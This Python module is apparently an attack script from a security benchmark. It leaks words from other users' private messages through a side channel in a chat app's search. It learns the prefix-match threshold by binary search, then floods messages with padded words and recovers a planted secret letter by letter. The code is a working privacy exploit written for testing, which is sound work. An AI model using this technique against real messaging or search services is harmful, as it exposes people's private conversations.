"""Learns words of other users' private messages from what a search does not find: letter by letter.

If a beginning matches more words than some number, only the word itself is searched for. An attacker writes exactly
that many words with a beginning: if the search then finds none of them, another user has written one more.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from benchmarks.attacks.links import Wait

if TYPE_CHECKING:
    from collections.abc import Generator

    from benchmarks.attacks.links import Link

KNOWN: Final = "x"  # no word of the generated history begins so
SECRET: Final = "xqvkzj"  # in a direct message between two other users
MOST: Final = 600  # words with one beginning, all in one message; more than the number that the attack searches
_LETTERS: Final = "abcdefghijklmnopqrstuvwxyz"
_ENDINGS: Final = 0x4E00  # the first of many characters that are letters of words, but not in _LETTERS


def learn(link: Link) -> Generator[Wait, None, None]:
    """Counts the letters after KNOWN that it has found."""
    yield from link.enter()
    count = yield from _find_number(link)
    found = KNOWN
    while count and SECRET.startswith(found):
        link.tally.done = len(found) - len(KNOWN)
        for letter in _LETTERS:
            if not (yield from _is_given(link, found + letter, count)):
                found += letter
                break
        else:
            break
    while True:  # nothing more to learn
        yield Wait(seconds=1)


def _find_number(link: Link) -> Generator[Wait, None, int]:
    """Returns how many words may share a beginning that is searched for; 0 if it cannot be found out."""
    given, not_given = 0, MOST
    if (yield from _is_given(link, "q", MOST)):
        return 0
    trial = 0
    while not_given - given > 1:
        middle = (given + not_given) // 2
        if (yield from _is_given(link, f"{trial}q", middle)):
            given = middle
        else:
            not_given = middle
        trial += 1
    return given


def _is_given(link: Link, beginning: str, count: int) -> Generator[Wait, None, bool]:
    """Writes `count` words with that beginning; returns whether a search finds any of them."""
    words = " ".join(f"{beginning}{chr(_ENDINGS + number)}" for number in range(count))
    yield from link.ask("dm", to="mallory", message=words)
    page = yield from link.ask("search", query=beginning, limit=1)
    return b'"type":"search"' in page and b'"messages":[]' not in page
